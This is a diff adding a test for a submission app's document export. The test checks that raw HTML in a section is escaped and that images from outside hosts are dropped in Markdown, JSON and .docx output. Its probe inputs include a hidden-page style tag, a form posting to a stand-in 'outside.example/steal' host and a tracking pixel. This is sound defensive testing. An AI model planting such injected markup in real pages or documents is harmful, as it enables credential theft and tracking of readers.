@@ -256,6 +256,38 @@ describe('submission workflow: guards, sign-off and the frozen final text', () =
     await leadMember.as.get(`/api/v1/submissions/${submission.id}/document?format=pdf`).expect(400);
   });
 
+  it('exports raw HTML in a section as text, and fetches or embeds no image from another host (.md and .docx)', async () => {
+    const { submission } = await draftWithSections();
+    await makeSection(leadMember, submission.id, {
+      title: 'Probe',
+      body: [
+        '<style>body{display:none}</style>',
+        'Text <form action="https://outside.example/steal"><input name="p"></form>',
+        '![tracking pixel](https://outside.example/pixel.png)',
+        '![our logo](/api/v1/files/logo)',
+      ].join('\n\n'),
+    });
+    const base = `/api/v1/submissions/${submission.id}`;
+    const md = (await leadMember.as.get(`${base}/document?format=md`).expect(200)).text;
+    expect(md).toContain('&lt;style>body{display:none}&lt;/style>');
+    expect(md).toContain('Text &lt;form action="https://outside.example/steal">&lt;input name="p">&lt;/form>');
+    expect(md).not.toMatch(/<(style|form|input)\b/);
+    expect(md).toContain('tracking pixel');
+    expect(md).not.toContain('pixel.png');
+    expect(md).toContain('![our logo](/api/v1/files/logo)');
+    const preview = await leadMember.as.get(`${base}/document?format=json`).expect(200);
+    expect(preview.body.markdown).toBe(md);
+
+    const docx = await leadMember.as.get(`${base}/document?format=docx`).buffer(true).parse(binary).expect(200);
+    const xml = unzipEntry(docx.body as Buffer, 'word/document.xml');
+    expect(xml).toContain('&lt;style&gt;body{display:none}&lt;/style&gt;');
+    expect(xml).toContain('tracking pixel');
+    expect(xml).toContain('our logo');
+    expect(xml).not.toContain('pixel.png');
+    expect(xml).not.toContain('/api/v1/files/logo');
+    expect(xml).not.toContain('<w:drawing');
+  });
+
   it('keeps named snapshots for review rounds', async () => {
     const { submission, intro } = await draftWithSections();
     const base = `/api/v1/submissions/${submission.id}`;
